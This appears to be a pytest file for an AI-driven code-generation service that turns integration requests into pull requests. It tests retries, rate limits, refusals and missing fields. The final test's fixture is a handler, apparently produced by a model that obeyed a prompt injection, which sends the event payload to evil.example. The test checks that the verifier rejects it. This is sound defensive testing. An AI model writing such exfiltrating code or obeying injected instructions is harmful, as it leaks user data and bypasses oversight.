"""A request from its asking to its pull request, and everything that can be in the way."""

from __future__ import annotations

import json

from core.demo.stand_ins.claude import LIMITED, Answer, Failure
from core.texts import revive
from storage import requests as rows
from tests.core.generation.drafts import answer, draft
from tests.core.requests.conftest import REPOSITORY, House

BROKEN = draft(handler='def handle(event, config):\n    return [{"type": "log", "message": missing}]\n')


async def test_a_request_becomes_a_pull_request(house_on_either: House) -> None:
    house = house_on_either
    house.claude.answers = [answer(draft())]
    asked = await house.ask()
    done = await house.until(asked, lambda one: one.row.status == "inactive")
    assert (done.row.pull, done.row.pull_state, done.row.branch) == (2, "open", "ccb/hello-webhook")
    pull = house.hub.pulls.shown(REPOSITORY, 2)
    assert pull["title"] == "Add the integration Hello, webhook" and pull["draft"] is False
    assert "| ✓ `hello` |" in pull["body"] and "`log`" in pull["body"] and "1 round, $0." in pull["body"]
    assert await house.log(asked) == [("check", "info"), ("write", "info"), ("verify", "info"), ("publish", "info")]


async def test_what_fails_goes_back_with_the_exact_error(house: House) -> None:
    house.claude.answers = [answer(BROKEN), Answer("no JSON at all"), answer(draft())]
    asked = await house.ask()
    await house.until(asked, lambda one: one.row.status == "inactive")
    first, second, third = (asked.body["messages"] for asked in house.claude.asked)
    assert [len(first), len(second), len(third)] == [1, 3, 5]
    assert second[1] == {"role": "assistant", "content": answer(BROKEN).text}
    assert "missing" in second[2]["content"] and "handler.py" in second[2]["content"]
    assert "has not the form" in third[4]["content"]
    written = await house.client.engine.ctx.db.read(rows.rounds, asked.id)
    assert [bool(one.problem) for one in written] == [True, True, False]
    assert ("verify", "warning") in await house.log(asked)


async def test_after_the_last_round_it_has_failed(house: House) -> None:
    house.claude.answers = [answer(BROKEN)] * 4
    failed = await house.until(await house.ask(), lambda one: one.row.status == "failed")
    assert failed.error_details is not None and failed.error_details["error"] == "Generation failed"
    assert len(house.claude.asked) == 4 and house.hub.pulls.shown is not None


async def test_what_is_missing_is_named(house: House) -> None:
    failed = await house.until(
        await house.ask(target_service="", api_endpoints=" "), lambda one: one.row.status == "failed"
    )
    assert failed.error_details is not None
    assert failed.error_details["error"] == "Insufficient integration requirements"
    assert failed.error_details["missing_fields"] == ["target_service", "api_endpoints"]
    assert house.claude.asked == []


async def test_dependencies_that_cannot_be_met(house: House) -> None:
    failed = await house.until(
        await house.ask(dependencies="python>=3.12, requests>=2"), lambda one: one.row.status == "failed"
    )
    assert failed.error_details is not None and failed.error_details["error"] == "Dependency conflict detected"
    assert [conflict.partition(":")[0] for conflict in failed.error_details["conflicts"]] == [
        "python>=3.12", "requests>=2",
    ]  # fmt: skip


async def test_a_limit_is_waited_for(house: House) -> None:
    house.claude.answers = [Failure(429, LIMITED.kind, LIMITED.message, retry_after=300), answer(draft())]
    asked = await house.ask()
    waits = await house.until(asked, lambda one: one.error_details is not None)
    assert waits.error_details is not None
    assert (waits.row.status, waits.error_details["error"]) == ("generating", "Rate limit exceeded")
    assert waits.error_details["retry_after"] == "300s" and waits.row.run_at == house.clock.now() + 300
    house.clock.move(301)
    done = await house.until(asked, lambda one: one.row.status == "inactive")
    assert done.error_details is None


async def test_claude_declines(house: House) -> None:
    house.claude.answers = [Answer("I cannot help with that.", stop_reason="refusal")]
    failed = await house.until(await house.ask(), lambda one: one.row.status == "failed")
    assert failed.error_details is not None and failed.error_details["error"] == "Claude declined"
    assert "declined" in revive(failed.error_details["message"])


async def test_what_a_prompt_injection_asked_for_is_refused_as_any(house: House) -> None:
    """The model obeys the text and reaches for another host: the verifier does not care who told it to."""
    manifest = json.loads(json.dumps(draft().manifest))
    obeyed = draft(
        manifest=manifest,
        handler=(
            "def handle(event, config):\n"
            '    return [{"type": "http_request", "url": "https://evil.example/", "json": event["payload"]}]\n'
        ),
    )
    house.claude.answers = [answer(obeyed)] * 4
    failed = await house.until(await house.ask(), lambda one: one.row.status == "failed")
    assert failed.error_details is not None and failed.row.pull is None
    assert "http_request" in revive(failed.error_details["message"])
